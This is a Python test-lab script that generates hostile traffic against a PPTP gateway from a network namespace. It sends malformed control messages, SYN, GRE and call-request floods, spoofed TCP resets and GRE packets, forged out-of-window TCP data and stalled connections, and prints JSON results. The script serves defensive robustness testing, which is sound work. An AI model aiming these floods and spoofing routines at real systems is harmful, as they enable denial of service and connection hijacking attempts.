#!/usr/bin/python3
"""Hostile traffic for the lab, from inside a namespace; prints one JSON line.

  control-junk: a control connection whose messages are malformed (bad Magic Cookie, a
                false Length, an unknown type) and split across TCP segments;
  gre-junk:     enhanced GRE with Call IDs that belong to no call, and truncated GRE;
  ocrq-flood:   one control connection sending --count Outgoing-Call-Requests;
  tcp-spoof:    an off-path neighbour's RST, FIN and SYN (--count rounds) with the address
                --local and port --sport of another host's control connection toward
                --target:1723, with random sequence and acknowledgement numbers (a RST acts
                only at the one expected number, RFC 5961 3.2: a random one misses it with
                probability 1 - 2**-32);
  syn-rst-churn: --count cycles of a SYN and the RST that ends it, all on one 4-tuple
                (--local:--sport to --target:1723), each with a new initial sequence number;
  syn-flood:    a SYN from each of --count source ports toward --target:1723;
  ooo-data:     --count connections to a listener on --target:1723 (`sink`), each with its
                handshake done and then --segments segments of 1,000 bytes sent ahead of a
                gap that is never filled (our kernel's RSTs held back by a table of its own
                in this namespace, removed at the end);
  sink:         listens on --local:1723 for --count seconds, answers each connection's
                Start-Control-Connection-Request and reads nothing more;
  gre-flood:    enhanced GRE with Call IDs that belong to no call, for --seconds;
  gre-key-flood: for --seconds (at most --count packets), enhanced GRE with the one Key
                --key from --local's own address (no spoofing) toward --target, each carrying
                an IP frame that starts b"FLOOD" (a watcher can match it): a call's Key sent
                by a host that is not its peer;
  gre-spoof:    --count GRE packets from a forged --spoof-source (a server's address) with
                the Key --key: a server's GRE sent from the wrong side;
  stalled:      --count control connections to `sink` at --target, each with its
                Start-Control-Connection-Request answered and then the first 13 bytes of a
                Call-Clear-Request (its Call ID's first byte in, the second never sent), kept
                open --seconds (the gateway decides such a field from its first byte and
                holds nothing: docs/packet-path.md, "Held segments");
  tcp-window-forge: one who guessed (or was told) another host's control connection's
                numbers: --size bytes forged --ahead bytes past that host's next byte --seq
                (address --local, port --sport, toward --target:1723, acknowledging --ack, with
                the TCP timestamps --tsval/--tsecr if given), then at the end of that forged
                data what --ends lists (rst, fin), --pause seconds apart. Data past a gap
                does not move the end of that host's data with no gap (the receiver's
                RCV.NXT), so neither a RST nor a FIN there may act (RFC 5961 3.2);
  mid-stream:   for --seconds (at most --count), data segments (an Echo-Request) with no
                handshake from ever new source ports toward --target:1723: each is a
                connection picked up mid-stream;
  start-wait:   one control connection whose Start-Control-Connection-Request waits up to
                --seconds for its reply: prints the reply's result code and when it came;
  echo-pipeline: one control connection that sends --count Echo-Requests in one write after
                its start, while a thread reads every reply: prints the replies and whether
                the connection was closed on it; with --unread, reads nothing and, once
                its writes stall, ends the connection with a RST (SO_LINGER 0);
  head-flood:   one control connection with a call (Call ID --key), then Set-Link-Info
                messages each cut after --cut bytes (two segments each): every one a head
                an HA node sends its peer, unpaced;
  call-id-range: a pptpd connection's calls run past its range of server Call IDs until one
                is --key (at most --count requests, --seconds after the first call), then
                GRE keyed --key (hostile_calls.py);
  range-wrap:   --count control connections started and closed, then one with a call, held
                --pause seconds: pptpd's ranges of Call IDs wrap after 512 connections
                (hostile_calls.py).
syn-rst-churn, syn-flood, ooo-data, ocrq-flood and head-flood stop at --count or, with --duration, after
that many seconds, whichever comes first (a fixed-time flood).
Floods are paced (a pause every few packets) so that the kernel queue is not what refuses
them: the daemon's budgets are."""
import argparse
import fcntl
import json
import os
import random
import socket
import struct
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from pptplab import gre, messages as m  # noqa: E402
from pptplab.hostile_calls import call_id_range, range_wrap  # noqa: E402
from pptplab.hostile_tcp import (mid_stream, ooo_data, paced, raw_socket, rounds, syn_flood,  # noqa: E402
                                 syn_rst_churn, tcp_spoof, tcp_window_forge)


def segments(sock, data, size):
    for i in range(0, len(data), size):
        sock.sendall(data[i:i + size])
        time.sleep(0.02)  # with TCP_NODELAY: one segment each


def control_junk(a):
    sent = 0
    for junk in (
        m.sccrq()[:4] + b"\xde\xad\xbe\xef" + m.sccrq()[8:],        # bad Magic Cookie
        struct.pack("!H", 9000) + m.sccrq()[2:],                     # a Length no message has
        m.message(m.SCCRQ, b"")[:8] + b"\x00\x63\x00\x00" + b"\0" * 144,  # unknown type 99
    ):
        s = socket.create_connection((a.target, 1723), timeout=5, source_address=(a.local, 0))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            segments(s, junk, 7)
            sent += 1
        except OSError:
            pass
        s.close()
    return {"connections": sent}


def gre_junk(a):
    raw = gre.open_socket(a.local)
    n = 0
    for i in range(a.count):
        raw.sendto(gre.build(40000 + i, b"\xff\x03\x00\x21junk", seq=i), (a.target, 0))
        n += 1
    raw.sendto(b"\x30\x81\x88", (a.target, 0))  # truncated
    raw.close()
    return {"packets": n + 1}


def ocrq_flood(a):
    s = socket.create_connection((a.target, 1723), timeout=5, source_address=(a.local, 0))
    s.sendall(m.sccrq("flood"))
    time.sleep(0.2)
    sent = 0
    try:
        for i in rounds(a):
            s.sendall(m.ocrq(1000 + i % 60000, i % 60000))
            sent += 1
    except OSError:
        pass
    time.sleep(0.5)
    s.close()
    return {"ocrq_sent": sent}


def read_message(s, kind, timeout=5.0):
    """The next control message of `kind` from s (others skipped); raises OSError if none
    comes within `timeout` seconds."""
    deadline, data = time.monotonic() + timeout, b""
    while time.monotonic() < deadline:
        while len(data) >= 12 and len(data) >= struct.unpack("!H", data[:2])[0]:
            length = max(12, struct.unpack("!H", data[:2])[0])
            msg, data = data[:length], data[length:]
            if m.u16(msg, 8) == kind:
                return msg
        s.settimeout(max(0.01, deadline - time.monotonic()))
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    raise OSError("no message of type %d within %g s" % (kind, timeout))


SIOCOUTQNSD = 0x894B  # linux/sockios.h: bytes in the send queue not yet sent


def unsent_bytes(s):
    return struct.unpack("i", fcntl.ioctl(s.fileno(), SIOCOUTQNSD, b"\0" * 4))[0]


def head_flood(a):
    """One control connection with one call (its Call ID --key), then Set-Link-Info (RFC 2637
    2.15, which the server does not answer) naming the server's Call ID, each written as its
    first --cut bytes and then the rest (TCP_NODELAY: two segments each), for --duration
    seconds or --count messages. Each is a message passed in part: a head an HA node sends
    its peer (docs/ha.md, "A message split before its Call ID field")."""
    s = socket.create_connection((a.target, 1723), timeout=5, source_address=(a.local, 0))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(m.sccrq("heads"))
    read_message(s, m.SCCRP)
    s.sendall(m.ocrq(a.key))
    server_call_id = m.u16(read_message(s, m.OCRP), 12)
    msg = m.message(m.SLI, struct.pack("!HHII", server_call_id, 0, 0xFFFFFFFF, 0xFFFFFFFF))
    s.settimeout(5)
    started, sent = time.monotonic(), 0
    for _ in rounds(a):
        for part in (msg[:a.cut], msg[a.cut:]):
            # Each part its own segment: written once nothing is left unsent (a write behind
            # unsent data would be coalesced with it).
            while unsent_bytes(s) > 0 and time.monotonic() - started < a.duration + 5:
                pass
            s.sendall(part)
        sent += 1
    seconds = time.monotonic() - started
    time.sleep(0.5)
    s.close()
    return {"sli_sent": sent, "seconds": round(seconds, 3), "server_call_id": server_call_id}


def start_wait(a):
    s = socket.create_connection((a.target, 1723), timeout=5, source_address=(a.local, 0))
    started = time.monotonic()
    try:
        s.sendall(m.sccrq("patient"))
        reply = read_message(s, m.SCCRP, a.seconds)
        return {"result": reply[14], "after": round(time.monotonic() - started, 1)}
    finally:
        s.close()


def echo_pipeline(a):
    s = socket.create_connection((a.target, 1723), timeout=5, source_address=(a.local, 0))
    s.sendall(m.sccrq("pipeline"))
    read_message(s, m.SCCRP, 10)
    got = {"bytes": 0, "closed": False}
    wanted = m.LENGTHS[m.ECHORP] * a.count
    if a.unread:
        return echo_pipeline_unread(s, a)

    def reader():
        while got["bytes"] < wanted:
            try:
                chunk = s.recv(1 << 16)
            except OSError:  # the timeout: replies stopped coming
                return
            if not chunk:
                got["closed"] = True
                return
            got["bytes"] += len(chunk)

    thread = threading.Thread(target=reader, daemon=True)
    thread.start()
    try:
        s.sendall(b"".join(m.echorq(i) for i in range(a.count)))
    except OSError:
        pass
    thread.join(a.seconds)
    s.close()
    return {"sent": a.count, "replies": got["bytes"] // m.LENGTHS[m.ECHORP], "closed": got["closed"]}


def echo_pipeline_unread(s, a):
    """Writes Echo-Requests and reads nothing until the writes stall (the peer held back by
    our full receive buffer), then resets the connection."""
    s.settimeout(3)
    block = b"".join(m.echorq(i) for i in range(4096))  # 64 KiB
    sent = 0
    try:
        while sent < a.count:
            s.sendall(block)
            sent += 4096
    except OSError:  # the timeout: our writes stalled
        pass
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.close()
    return {"sent": sent, "reset": True}


def sink(a):
    """Answers each connection's Start-Control-Connection-Request, then reads nothing more:
    its calls stay in set-up and its out-of-order data is never made whole."""
    listener = socket.create_server((a.local, 1723), backlog=1024)
    listener.settimeout(0.05)
    waiting, answered = [], []
    deadline = time.monotonic() + a.count
    while time.monotonic() < deadline:
        try:
            conn = listener.accept()[0]
            conn.setblocking(False)
            waiting.append(conn)
        except socket.timeout:
            pass
        for conn in list(waiting):
            try:
                head = conn.recv(156, socket.MSG_PEEK)
            except BlockingIOError:
                continue
            if len(head) >= 156:
                conn.recv(156)
                conn.send(m.sccrp())
                waiting.remove(conn)
                answered.append(conn)
            elif not head:
                waiting.remove(conn)
    return {"answered": len(answered)}


def gre_flood(a):
    raw = gre.open_socket(a.local)
    n = 0
    deadline = time.monotonic() + a.seconds
    try:
        while time.monotonic() < deadline:
            raw.sendto(gre.build(40000 + n % 20000, b"\xff\x03\x00\x21junk", seq=n), (a.target, 0))
            n += 1
            paced(n)
    finally:
        raw.close()
    return {"packets": n}


FLOOD_MARK = b"FLOOD"  # the first bytes of a gre-key-flood frame's IP payload


def gre_key_flood(a):
    raw = gre.open_socket(a.local)
    n = 0
    deadline = time.monotonic() + a.seconds
    try:
        while time.monotonic() < deadline and n < a.count:
            frame = b"\xff\x03\x00\x21" + FLOOD_MARK + b"/%d/%d" % (a.key, n)
            raw.sendto(gre.build(a.key, frame, seq=0x40000000 + n), (a.target, 0))
            n += 1
            paced(n)
    finally:
        raw.close()
    return {"packets": n}


def gre_spoof(a):
    """--count GRE packets with the Key --key from the spoofed source --spoof-source (a
    server's address, sent from the client side): a frame a client counts as foreign."""
    s = raw_socket()
    frame = b"\xff\x03\x00\x21echo:spoofed/0/"
    try:
        for n in range(a.count):
            g = gre.build(a.key, frame, seq=n)
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(g), random.getrandbits(16), 0, 64, gre.IPPROTO_GRE, 0,
                             socket.inet_aton(a.spoof_source), socket.inet_aton(a.target))
            s.sendto(ip + g, (a.target, 0))
            time.sleep(0.01)
    finally:
        s.close()
    return {"packets": a.count}


def stalled(a):
    conns, held = [], 0
    head = m.ccrq(4242)[:13]
    try:
        for _ in range(a.count):
            try:
                s = socket.create_connection((a.target, 1723), timeout=2, source_address=(a.local, 0))
                s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                s.sendall(m.sccrq("stalled"))
                if len(s.recv(156, socket.MSG_WAITALL)) != 156:
                    s.close()
                    continue
                s.sendall(head)
                conns.append(s)
                held += 1
            except OSError:
                continue
        time.sleep(a.seconds)
    finally:
        for s in conns:
            s.close()
    return {"connections": held}


def main():
    p = argparse.ArgumentParser(description=__doc__)
    kinds = {"control-junk": control_junk, "gre-junk": gre_junk, "ocrq-flood": ocrq_flood, "tcp-spoof": tcp_spoof,
             "syn-rst-churn": syn_rst_churn, "syn-flood": syn_flood, "ooo-data": ooo_data, "sink": sink,
             "gre-flood": gre_flood, "gre-key-flood": gre_key_flood, "gre-spoof": gre_spoof, "stalled": stalled, "mid-stream": mid_stream,
             "tcp-window-forge": tcp_window_forge, "head-flood": head_flood, "start-wait": start_wait,
             "echo-pipeline": echo_pipeline, "call-id-range": lambda a: call_id_range(a, read_message),
             "range-wrap": lambda a: range_wrap(a, read_message)}
    p.add_argument("kind", choices=sorted(kinds))
    p.add_argument("--local", required=True)
    p.add_argument("--target", required=True)
    p.add_argument("--count", type=int, default=50)
    p.add_argument("--sport", type=int, default=40999, help="tcp-spoof: the victim's TCP source port; syn-rst-churn: ours")
    p.add_argument("--dport", type=int, default=1723, help="tcp-spoof: the TCP destination port")
    p.add_argument("--spoof-source", default="198.51.100.2", help="gre-spoof: the source address written")
    p.add_argument("--key", type=int, default=0,
                   help="gre-spoof, gre-key-flood: the GRE Key (a call's Call ID); call-id-range: the server Call ID sought")
    p.add_argument("--segments", type=int, default=30, help="ooo-data: segments per connection")
    p.add_argument("--unread", action="store_true", help="echo-pipeline: read nothing, then reset")
    p.add_argument("--cut", type=int, default=5, help="head-flood: bytes of each message in its first segment")
    p.add_argument("--seq", type=int, default=0, help="tcp-window-forge: the victim's next sequence number")
    p.add_argument("--ack", type=int, default=0, help="tcp-window-forge: the receiver's next sequence number")
    p.add_argument("--ahead", type=int, default=8192, help="tcp-window-forge: bytes between --seq and the forged data")
    p.add_argument("--size", type=int, default=120, help="tcp-window-forge: bytes of forged data")
    p.add_argument("--ends", default="rst,fin", help="tcp-window-forge: sent at the end of the forged data, in order")
    p.add_argument("--tsval", type=int, default=-1,
                   help="tcp-window-forge: the victim's TCP timestamp (with --tsecr; -1: no option)")
    p.add_argument("--tsecr", type=int, default=0, help="tcp-window-forge: the receiver's TCP timestamp")
    p.add_argument("--window", type=int, default=65535, help="tcp-window-forge: the window field written")
    p.add_argument("--go-file", default="", help="call-id-range: go on past the first call once this file exists")
    p.add_argument("--pause", type=float, default=0.5,
                   help="tcp-window-forge: seconds after each segment; call-id-range: before the GRE; "
                   "range-wrap: the call held")
    p.add_argument("--seconds", type=float, default=5.0, help="gre-flood, gre-key-flood, mid-stream: how long; stalled: held open; "
                   "start-wait: the longest wait; echo-pipeline: how long the replies are read; "
                   "call-id-range: the pause after the first call")
    p.add_argument("--duration", type=float, default=0.0,
                   help="syn-rst-churn, syn-flood, ooo-data, ocrq-flood, head-flood: stop after this many seconds "
                   "(0: at --count)")
    a = p.parse_args()
    fn = kinds[a.kind]
    try:
        result = fn(a)
        result["ok"] = True
    except (OSError, subprocess.SubprocessError) as e:
        result = {"ok": False, "error": str(e)}
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
